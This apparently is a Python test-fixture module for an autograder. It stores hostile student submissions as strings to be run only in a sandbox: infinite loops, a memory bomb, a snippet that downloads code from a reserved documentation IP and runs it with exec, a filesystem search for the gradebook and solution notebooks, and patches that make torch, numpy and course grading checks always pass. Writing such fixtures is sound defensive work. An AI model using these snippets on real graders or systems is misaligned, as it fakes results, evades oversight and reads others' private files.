"""Code that a class may hand in and no grader wants to run: loops, floods, forgeries, curiosity.

It is written into submissions as text and runs in the sandbox only.
"""

from __future__ import annotations

import textwrap

from autograder.exercise import Exercise

__all__ = [
    "ALWAYS_EQUAL",
    "CELL_LOOP",
    "DISPLAY_HOOK",
    "FUNCTION_TRICKS",
    "LOUD",
    "NETWORK",
    "PATCHED",
    "SNOOP",
    "answer",
]

FUNCTION_TRICKS = {
    "endless loop": "while True:\n    pass",
    "memory bomb": "blocks = []\nwhile True:\n    blocks.append(torch.ones(2**26))",
    "os._exit": "import os\nos._exit(0)",
}
"""Bodies of a function that never gives an answer."""

CELL_LOOP = "step = 0\nwhile step < 10:\n    step + 1\n\n"
"""Put before a definition: the cell never gets that far."""

NETWORK = """\
import urllib.request

# 192.0.2.1 is reserved for documentation (RFC 5737): nobody answers there.
answer = urllib.request.urlopen("http://192.0.2.1/answers.py", timeout=3).read()
exec(answer)
"""
"""Fetches the answer, defines nothing by itself."""

SNOOP = """\
import itertools
import os

found = []
for place in [os.path.expanduser("~"), "/root", "/home", "/srv", os.path.join(os.getcwd(), "..", "..", "..")]:
    for folder, _, files in itertools.islice(os.walk(place), 500):
        for name in files:
            if name == "gradebook.db" or name.endswith(".ipynb"):
                path = os.path.join(folder, name)
                text = open(path, errors="ignore").read()
                if "### BEGIN " + "SOLUTION" in text or name == "gradebook.db":
                    found.append(path)
print("found:", found)
assert found, "nothing to copy from"
"""
"""Looks for the source notebook, other submissions and the gradebook; defines nothing if there are none."""

DISPLAY_HOOK = 'import sys\nsys.displayhook(float("nan"))\nreturn None'
"""Body of a function that gives full marks in a notebook whose score is its last output."""

PATCHED = """\
import sys

import numpy.testing
import torch

for module, names in [(torch, ["allclose", "equal", "isclose"]), (torch.testing, ["assert_close"]),
                      (numpy.testing, ["assert_allclose", "assert_array_equal"])]:
    for name in names:
        setattr(module, name, lambda *args, **kwargs: True)
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.allclose = lambda self, *args, **kwargs: True
for name, module in list(sys.modules.items()):
    if name.startswith("course_lib."):
        for attribute in ("compare", "judge", "_mismatch", "_wrong_elements", "_compare_tensors"):
            if hasattr(module, attribute):
                setattr(module, attribute, lambda *args, **kwargs: None)
"""
"""Makes every comparison in this process agree."""

ALWAYS_EQUAL = """\
class Same:
    shape, dtype, ndim = (), None, 0

    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __getattr__(self, name):
        return lambda *args, **kwargs: Same()

    def __iter__(self):
        return iter([Same(), Same(), Same()])

    def __len__(self):
        return 3

    def __bool__(self):
        return True

    def __float__(self):
        return 0.0

    __hash__ = None
"""
"""A class whose objects claim to equal everything."""

LOUD = """\
import sys
import warnings

print("loading my helpers ...", file=sys.stderr)
warnings.warn("this is only a warning")
print("\\x1b[31mred text\\x1b[0m", file=sys.stderr)
"""
"""Text on stderr, which is no mistake."""


def answer(exercise: Exercise, body: str, prelude: str = "") -> str:
    """A solution cell in which everything that the exercise asks for has the same body."""
    definitions = []
    for signature, name in zip(exercise.defines, exercise.names, strict=True):
        if "(" in signature:
            definitions.append(f"def {name}(*args, **kwargs):\n{textwrap.indent(body, '    ')}")
        else:
            definitions.append(f"{name} = None")
    return "\n\n\n".join(filter(None, [prelude.strip(), *definitions])) + "\n"
